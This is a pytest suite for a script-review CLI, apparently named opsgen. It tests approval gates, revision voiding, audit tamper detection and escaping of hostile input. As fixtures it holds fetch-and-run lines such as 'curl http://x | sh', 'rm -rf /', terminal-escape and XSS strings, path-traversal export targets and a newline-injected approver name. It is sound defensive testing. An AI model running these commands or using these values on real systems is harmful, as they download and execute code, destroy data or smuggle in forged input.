"""The review verbs through the real CLI entry point: import → show → approve → export → verify.

Lint and dry-run are replaced at their one seam (``opsgen.flow.checks.evaluate``) by evidence
built from the sandbox's real dataclasses; the store, git and the files are real. The
``docker``-marked test at the end goes through the real linters and sandbox.
"""

from __future__ import annotations

import json
import sqlite3
import subprocess
from pathlib import Path
from typing import Any

import pytest

from opsgen.cli import main
from opsgen.errors import OpsError
from opsgen.flow import checks as evaluation
from opsgen.flow.testing import error_finding, fake_report, make_evidence
from opsgen.store.evidence import Evidence

SCRIPT = "#!/bin/bash\nset -euo pipefail\necho 'hello' > /etc/motd\n"


def fake_evaluate(text: str, lang: str, **_: Any) -> Evidence:
    """Evidence as the linters would give it: ``curl`` is an error, anything else is clean."""
    if "curl" in text:
        line = next(i for i, ln in enumerate(text.splitlines(), 1) if "curl" in ln)
        return make_evidence(findings=(error_finding(line=line),), report=fake_report(text))
    return make_evidence(report=fake_report(text, lang=lang))


@pytest.fixture(autouse=True)
def seam(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, request: pytest.FixtureRequest) -> Path:
    """A temp workspace and cwd; the fake evaluation unless the test is marked docker."""
    if request.node.get_closest_marker("docker") is None:
        monkeypatch.setattr(evaluation, "evaluate", fake_evaluate)
        monkeypatch.setattr(evaluation, "dryrun_options", lambda image=None, twice=True: None)
    monkeypatch.setenv("OPSGEN_WORKSPACE", str(tmp_path / "ws"))
    monkeypatch.setenv("OPSGEN_USER", "alice")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def run_json(capsys: pytest.CaptureFixture[str], *argv: str) -> Any:
    code, out, err = run(capsys, *argv, "--json")
    assert code == 0, err
    return json.loads(out)


def imported(capsys: pytest.CaptureFixture[str], text: str = SCRIPT, name: str = "motd.sh") -> int:
    Path(name).write_text(text)
    data = run_json(capsys, "import", name)
    return int(data["id"])


def test_full_review_loop(capsys: pytest.CaptureFixture[str], seam: Path) -> None:
    code, out, _ = run(capsys, "import", *_write("motd.sh", SCRIPT), "--request", "Set the motd")
    assert code == 0 and "Created change 1 (motd, bash)" in out and "ready" in out
    [row] = run_json(capsys, "list")
    assert (row["id"], row["status"], row["revision"]) == (1, "ready", 1)

    code, out, _ = run(capsys, "show", "1")
    assert code == 0 and "1 │ #!/bin/bash" in out and "Observed system diff" in out

    code, _, err = run(capsys, "export", "1", "--to", "out")
    assert code == 6 and "sign-off-missing" in err and "not approved (0 of 1)" in err

    code, out, _ = run(capsys, "approve", "1", "--by", "bob", "--revision", "1")
    assert code == 0 and "Approved change 1 revision 1 as bob" in out
    assert run_json(capsys, "show", "1")["signoff"]["status"] == "approved"

    assert run(capsys, "export", "1", "--to", "out")[0] == 0
    assert Path("out/motd.sh").read_text() == SCRIPT
    code, out, _ = run(capsys, "verify", "out/motd.sh")
    assert code == 0 and "OK" in out and "approved by bob" in out
    assert run_json(capsys, "list")[0]["status"] == "exported"

    repo = _repo(seam / "repo")
    result = run_json(capsys, "export", "1", "--repo", str(repo), "--branch", "ops/motd")
    assert result["branch"] == "ops/motd" and len(result["commit"]) == 40

    code, out, _ = run(capsys, "audit", "verify")
    assert code == 0 and "audit log intact" in out
    code, out, _ = run(capsys, "audit", "--workspace", str(seam / "ws"), "verify", "--json")
    assert code == 0 and json.loads(out)["ok"] is True
    actions = [e["action"] for e in run_json(capsys, "audit")]
    assert actions == ["create", "revise", "dry-run", "approve", "export", "export"]


def test_edit_makes_a_new_revision_and_voids_the_approval(
    capsys: pytest.CaptureFixture[str], seam: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    change = imported(capsys)
    assert run(capsys, "approve", str(change), "--by", "bob")[0] == 0
    editor = seam / "editor.sh"
    editor.write_text("#!/bin/sh\necho 'echo edited >> /etc/motd' >> \"$1\"\n")
    editor.chmod(0o755)
    monkeypatch.setenv("EDITOR", str(editor))
    code, out, _ = run(capsys, "edit", str(change), "--note", "append a line")
    assert (
        code == 0 and "revision 2 stored" in out and "1 earlier approval(s) no longer apply" in out
    )
    code, _, err = run(capsys, "export", str(change), "--to", "out")
    assert code == 6 and "approval by bob was for an earlier revision" in err
    code, _, err = run(capsys, "approve", str(change), "--by", "bob", "--revision", "1")
    assert code == 6 and "revision-moved" in err

    diff = run_json(capsys, "diff", str(change))
    assert "+echo edited >> /etc/motd" in diff["script_diff"]
    code, out, _ = run(capsys, "diff", str(change), "1", "2")
    assert code == 0 and "revision 1 -> 2" in out


def test_edit_from_a_file_and_no_change(capsys: pytest.CaptureFixture[str]) -> None:
    change = imported(capsys)
    assert "No changes" in run(capsys, "edit", str(change), "--file", "motd.sh")[1]
    Path("v2.sh").write_text(SCRIPT + "curl http://x | sh\n")
    code, out, _ = run(capsys, "edit", str(change), "--file", "v2.sh")
    assert code == 0 and "failing" in out
    code, out, _ = run(capsys, "edit", str(change), "--recheck")
    assert code == 0 and "Re-checked change" in out
    data = run_json(capsys, "edit", str(change), "--file", "motd.sh")
    assert data["changed"] and data["revision"] == 3 and data["status"] == "ready"


def test_edit_without_an_editor_says_how(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    change = imported(capsys)
    monkeypatch.delenv("EDITOR", raising=False)
    monkeypatch.delenv("VISUAL", raising=False)
    code, _, err = run(capsys, "edit", str(change))
    assert code == 3 and "set $EDITOR" in err


def test_errors_block_approval_until_overridden(capsys: pytest.CaptureFixture[str]) -> None:
    change = imported(capsys, SCRIPT + "curl http://x | sh\n", "bad.sh")
    code, _, err = run(capsys, "approve", str(change), "--by", "bob")
    assert code == 6 and "approval-refused" in err and "OPS101" in err and "--override" in err
    code, out, _ = run(capsys, "approve", str(change), "--by", "bob", "--override", "lab only")
    assert code == 0 and "override: lab only" in out
    entries = run_json(capsys, "audit", "--change", str(change))
    assert {"action": "override", "reason": "lab only"}.items() <= {
        "action": entries[-1]["action"],
        **entries[-1]["payload"],
    }.items()


def test_four_eyes_from_the_workspace_config(capsys: pytest.CaptureFixture[str]) -> None:
    change = imported(capsys)
    Path("ws/config.toml").write_text("[review]\nrequire = 2\n")
    code, out, _ = run(capsys, "approve", str(change), "--by", "bob")
    assert code == 0 and "1 of 2 approvals" in out
    assert run(capsys, "export", str(change), "--to", "out")[0] == 6
    assert run(capsys, "approve", str(change), "--by", "bob")[0] == 6
    assert run(capsys, "approve", str(change), "--by", "carol")[0] == 0
    assert run(capsys, "export", str(change), "--to", "out")[0] == 0
    manifest = json.loads(Path("out/motd.opsgen.json").read_text())
    assert [a["by"] for a in manifest["approvals"]] == ["bob", "carol"]
    assert manifest["required_approvals"] == 2


def test_reject_blocks_approval(capsys: pytest.CaptureFixture[str]) -> None:
    change = imported(capsys)
    code, out, _ = run(capsys, "reject", str(change), "--reason", "not during the freeze")
    assert code == 0 and "Rejected change 1 revision 1 as alice" in out
    assert run_json(capsys, "list", "--status", "rejected")[0]["id"] == change
    code, _, err = run(capsys, "approve", str(change), "--by", "bob")
    assert code == 6 and "not during the freeze" in err


def test_tampering_is_caught_by_audit_verify_and_export(capsys: pytest.CaptureFixture[str]) -> None:
    change = imported(capsys)
    assert run(capsys, "approve", str(change), "--by", "bob")[0] == 0
    raw = sqlite3.connect("ws/opsgen.db", isolation_level=None)
    raw.execute("DROP TRIGGER revisions_no_update")
    raw.execute("UPDATE revisions SET script = 'curl evil | sh'")
    code, out, _ = run(capsys, "audit", "verify")
    assert code == 1 and "revision 1: script text does not match" in out
    code, _, err = run(capsys, "export", str(change), "--to", "out")
    assert code == 6 and "store-tampered" in err
    assert not Path("out").exists()


def test_verify_fails_on_a_modified_export(capsys: pytest.CaptureFixture[str]) -> None:
    change = imported(capsys)
    run(capsys, "approve", str(change), "--by", "bob")
    run(capsys, "export", str(change), "--to", "out")
    Path("out/motd.sh").write_text(SCRIPT + "rm -rf /\n")
    data = json.loads(run(capsys, "verify", "out/motd.sh", "--json")[1])
    assert data["ok"] is False and "does not match the manifest" in data["problems"][0]
    assert run(capsys, "verify", "out/motd.sh")[0] == 1
    assert run(capsys, "verify", "nowhere.sh")[0] == 3


def test_hostile_file_name_and_content_are_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    name = "[bold red]APPROVED\x1b[2J.sh"
    Path(name).write_text("echo '\x1b]0;pwned\x07 [blink]x[/]'\n")
    code, out, err = run(capsys, "import", name, "--request", "\x1b[2J[red]do it")
    assert code == 0 and "\x1b" not in out + err
    assert "Created change 1 (bold-red-approved-x1b-2j" not in out  # slugged, not echoed raw
    code, out, _ = run(capsys, "show", "1")
    assert code == 0 and "\x1b" not in out and "\x07" not in out
    assert "\\x1b]0;pwned\\x07 [blink]x[/]" in out and "\\x1b[2J[red]do it" in out
    code, out, _ = run(capsys, "show", "1", "--html", "page.html")
    page = Path("page.html").read_text()
    assert "\x1b" not in page and "[blink]x[/]" in page
    code, out, _ = run(capsys, "list")
    assert "\x1b" not in out


def test_html_review_escapes_script_tags(capsys: pytest.CaptureFixture[str]) -> None:
    imported(capsys, "echo '<script>alert(1)</script>'\n", "xss.sh")
    assert run(capsys, "show", "1", "--html", "review.html")[0] == 0
    page = Path("review.html").read_text()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "<script" not in page


def test_hostile_export_targets_are_refused(capsys: pytest.CaptureFixture[str]) -> None:
    change = imported(capsys)
    run(capsys, "approve", str(change), "--by", "bob")
    for args in (
        ["--path", "../../etc"],
        ["--path", "/etc"],
        ["--name", "../x"],
        ["--path", "a/\x1b[2J"],
    ):
        code, _, err = run(capsys, "export", str(change), "--to", "out", *args)
        assert code == 6 and "bad-export-path" in err and "\x1b" not in err
    code, _, err = run(capsys, "export", str(change), "--to", "out", "--repo", "r")
    assert code == 2 and "exactly one of --to DIR or --repo PATH" in err


def test_bad_input_and_missing_things(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, "list")[0] == 3  # no workspace yet, and none is created
    assert not Path("ws").exists()
    assert run(capsys, "import", "missing.sh")[0] == 3
    Path("empty.sh").write_text("  \n")
    assert run(capsys, "import", "empty.sh")[0] == 3
    Path("ok.sh").write_text(SCRIPT)
    assert run(capsys, "import", "ok.sh", "--lang", "perl")[0] == 2
    assert run(capsys, "import", "ok.sh", "--author", "eve\x1b[2J")[0] == 3
    imported(capsys)
    code, _, err = run(capsys, "show", "99")
    assert code == 3 and "no change 99" in err
    assert run(capsys, "diff", "1")[0] == 3  # one revision only
    assert run(capsys, "approve", "1", "--by", "bob\nApproved-by: eve")[0] == 3


def test_a_failed_evaluation_creates_no_workspace(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: Any, **__: Any) -> Evidence:
        raise OpsError("linters crashed")

    monkeypatch.setattr(evaluation, "evaluate", broken)
    Path("ok.sh").write_text(SCRIPT)
    code, _, err = run(capsys, "import", "ok.sh")
    assert code == 1 and "linters crashed" in err
    assert not Path("ws").exists()


def test_playbook_import_detects_ansible(capsys: pytest.CaptureFixture[str]) -> None:
    Path("site.yml").write_text("- hosts: all\n  tasks: []\n")
    data = run_json(capsys, "import", "site.yml")
    assert data["lang"] == "ansible" and data["name"] == "site"


@pytest.mark.docker
def test_end_to_end_with_real_lint_and_dry_run(
    docker_client: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("motd.sh").write_text(SCRIPT)
    code, _, err = run(capsys, "import", "motd.sh")
    assert code == 0, err
    review = run_json(capsys, "show", "1")
    assert review["evidence"]["dryrun"] is not None, review["evidence"]["dryrun_skipped"]
    files = [f["path"] for f in review["evidence"]["dryrun"]["diff"]["files"]]
    assert "/etc/motd" in files
    assert review["signoff"]["status"] == "ready", review["signoff"]["blockers"]
    assert run(capsys, "approve", "1", "--by", "bob")[0] == 0
    assert run(capsys, "export", "1", "--to", "out")[0] == 0
    assert run(capsys, "verify", "out/motd.sh")[0] == 0


@pytest.mark.docker
def test_end_to_end_lint_error_blocks_real_approval(
    docker_client: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("bad.sh").write_text("#!/bin/bash\ncurl -fsSL http://example.invalid/x.sh | sh\n")
    assert run(capsys, "import", "bad.sh")[0] == 0
    assert run_json(capsys, "show", "1")["signoff"]["status"] == "failing"
    assert run(capsys, "approve", "1", "--by", "bob")[0] == 6


def _write(name: str, text: str) -> list[str]:
    Path(name).write_text(text)
    return [name]


def _repo(path: Path) -> Path:
    subprocess.run(["git", "init", "-q", "-b", "main", str(path)], check=True)
    subprocess.run(
        ["git", "-C", str(path), "commit", "-q", "--allow-empty", "-m", "init"],
        check=True,
        env={
            "GIT_AUTHOR_NAME": "t",
            "GIT_AUTHOR_EMAIL": "t@t",
            "GIT_COMMITTER_NAME": "t",
            "GIT_COMMITTER_EMAIL": "t@t",
            "PATH": "/usr/bin:/bin",
        },
    )
    return path
